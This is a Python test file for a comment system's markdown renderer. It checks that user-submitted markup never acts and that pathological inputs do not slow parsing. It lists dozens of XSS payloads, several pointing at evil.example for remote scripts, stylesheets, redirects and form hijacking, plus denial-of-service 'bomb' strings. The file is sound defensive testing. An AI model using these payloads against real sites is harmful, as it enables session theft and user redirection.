"""What people write is shown as words: no markup of theirs acts, and no text takes long to read."""

from __future__ import annotations

import re
import time
from urllib.parse import urlsplit

import pytest
from lxml import html

from feedback.comments import LONGEST
from feedback.web.forms import CommentForm
from server.forms import parse
from server.markdown import Names, first_words, to_html, to_marked_html
from server.refusals import Rejected
from tests.feedback.conftest import Browse, parsed
from tests.world import World

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<body onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>click</a>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java\tscript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](file:///etc/passwd)",
    "[click](<javascript:alert(1)>)",
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    '[click](https://ok.example "x\\" onmouseover=\\"alert(1)")',
    '[click](https://ok.example/"onmouseover="alert(1))',
    'https://ok.example/"onmouseover="alert(1)',
    "https://javascript:alert(1)",
    "![picture](https://evil.example/track.png)",
    "![x](x'onerror='alert(1))",
    "<style>@import '//evil.example/x.css'</style>",
    "<p style='position:fixed;inset:0'>over everything</p>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example>",
    "<form action=//evil.example><input name=code></form>",
    "<textarea></textarea><script>alert(1)</script>",
    "</div></article><script>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "`<script>alert(1)</script>`",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "```html onmouseover=alert(1)\nx\n```",
    "<article id=comment-1 class=mine>forged</article>",
    "<hx-partial hx-target='#page' hx-swap=delete></hx-partial>",
    "<div hx-get=/sign-out hx-trigger=load>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "{{ 7*7 }}{% raw %}",
    "\x00<\x00script>alert(1)</script>",
)
ALLOWED = {"p", "br", "em", "strong", "code", "pre", "blockquote", "ul", "ol", "li", "a", "hr"}
BOMBS = {
    "quotes": ">" * LONGEST,
    "nested lists": "\n".join(" " * i + "- x" for i in range(138)),
    "brackets": "[" * LONGEST,
    "open links": "[a](" * (LONGEST // 4),
    "nested links": "[" * 5000 + "](x)" * 1250,
    "stars": "*a **a " * (LONGEST // 7),
    "delimiters": "*_" * (LONGEST // 2),
    "backticks": "".join("`" * (n % 90 + 1) + " " for n in range(220))[:LONGEST],
    "open angles": "<a " * (LONGEST // 3),
    "entities": "&" * LONGEST,
    "backslashes": "\\" * LONGEST,
    "references": "[a]: b\n" * (LONGEST // 7) + "[a]",
    "html opened": "<div" * (LONGEST // 4),
    "one long word": "x" * LONGEST,
    "addresses": "http://" * 1400,
    "addresses in brackets": "[https://a" * 1000,
    "brackets after addresses": "http://a))))" * 800,
}


def wrongs(markup: str) -> list[str]:
    """What in that markup is not plain text structure."""
    found = []
    for element in html.fragment_fromstring(markup, create_parent="div").iterdescendants():
        if element.tag not in ALLOWED:
            found.append(str(element.tag))
        for name, value in element.attrib.items():
            there = name != "href" or urlsplit(value.strip()).scheme in ("", "http", "https", "mailto")
            found += [] if there and name in ("href", "rel", "start", "title") else [f"{name}={value}"]
    return found


def test_wrong_markup_would_be_found() -> None:
    assert wrongs("<p><a href='https://a.example' rel='nofollow'>fine</a></p>") == []
    assert wrongs("<p onclick='x'><script>x</script><a href='javascript:x'>y</a></p>") == [
        "onclick=x",
        "script",
        "href=javascript:x",
    ]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_markup_of_theirs_acts(payload: str) -> None:
    assert wrongs(to_html(payload)) == []


def test_markdown_still_works() -> None:
    shown = to_html("**bold** and [a link](https://example.org)\n\n- one\n- two")
    assert "<strong>bold</strong>" in shown
    assert 'href="https://example.org"' in shown
    assert "<li>two</li>" in shown


AS_IT_IS = {
    "See https://example.org/a_b_c?x=1&y=2.": "https://example.org/a_b_c?x=1&y=2",
    "(https://example.org/X_(y))": "https://example.org/X_(y)",
    "**HTTP://example.org**!": "HTTP://example.org",
    "请看https://example.org/Perú。": "https://example.org/Perú",
    "https://example.org/@Amara Okoro": "https://example.org/@Amara",
    "<https://example.org>": "https://example.org",
}


@pytest.mark.parametrize("text", AS_IT_IS)
def test_an_address_is_a_link_as_it_stands(text: str) -> None:
    shown = to_marked_html(text, Names({"Amara Okoro": "m1"})).html
    (link,) = html.fragment_fromstring(shown, create_parent="div").iter("a")
    assert (link.text, link.get("rel")) == (AS_IT_IS[text], "noopener noreferrer nofollow")
    # What is around it stays.
    assert "".join(map(str, html.fromstring(shown).itertext())).strip() == re.sub(r"[*<>]", "", text)


@pytest.mark.parametrize(
    "text",
    [
        *("`https://example.org`", "xhttps://example.org", "https://", "https://.", "ftp://example.org", "http:/a"),
        f"https://example.org/{'a' * 500}",
    ],
)
def test_what_is_no_address_or_is_code_stays_words(text: str) -> None:
    assert "<a" not in to_html(text)


def test_an_address_in_a_link_is_its_words() -> None:
    shown = to_html("[https://one.example](https://two.example)")
    assert re.findall('href="([^"]*)"', shown) == ["https://two.example"]


@pytest.mark.parametrize("name", BOMBS)
def test_no_text_takes_long_to_read(name: str) -> None:
    began = time.process_time()
    shown = to_html(BOMBS[name])
    assert time.process_time() - began < 2
    assert len(shown) < 60 * LONGEST
    assert wrongs(shown) == []


@pytest.mark.parametrize("text", ["", " \n\t ", "\x00\x07", "\u202e\u2066", "[a]: https://a.example"])
def test_what_shows_nothing_is_refused(text: str) -> None:
    with pytest.raises(Rejected) as refused:
        parse(CommentForm, {"text": [text]})
    assert set(refused.value.errors) == {"text"}


def test_controls_and_direction_overrides_are_cleaned() -> None:
    form = parse(CommentForm, {"text": ["safe\u202eexe.\x00txt\u2066\r\nline\x1b[31m"]})
    assert form.text == "safeexe.txt\nline[31m"


def test_length_is_counted_after_cleaning() -> None:
    assert parse(CommentForm, {"text": ["\x00" * 50 + "x" * LONGEST]}).text == "x" * LONGEST
    with pytest.raises(Rejected):
        parse(CommentForm, {"text": ["x" * (LONGEST + 1)]})


def test_first_words_are_plain_text() -> None:
    assert (
        first_words("<p>Have you <em>tried</em> bells?</p>\n<ul><li>a &lt;b&gt;</li></ul>")
        == "Have you tried bells? a <b>"
    )
    long = first_words("<p>" + "many words " * 40 + "</p>")
    assert long.endswith(("many words…", "many…"))
    assert len(long) <= 112
    assert len(first_words("<p>" + "many words " * 40 + "</p>", 300)) > 280


@pytest.mark.parametrize("database_kind", ["sqlite"])
def test_page_with_every_payload_on_it_has_no_foreign_element(browse: Browse, world: World) -> None:
    writer = browse("Chiara")
    where = f"/threads/{world.tide.thread}/comments"
    for payload in PAYLOADS:
        assert writer.post(where, data={"text": f"canary {payload}"}).status_code == 303
    page = parsed(browse("Esi").get(f"/initiatives/{world.tide.initiative}").text)
    bodies = page.find_class("comment-body")
    assert len([body for body in bodies if "canary" in body.text_content()]) == len(PAYLOADS)
    assert [wrongs(html.tostring(part, encoding="unicode")) for body in bodies for part in body if part.tag != "p"] == [
        [] for body in bodies for part in body if part.tag != "p"
    ]
    assert len(page.cssselect("article#comment-1")) == 1
    assert page.cssselect(f"#comments-{world.tide.thread}-0 script") == []
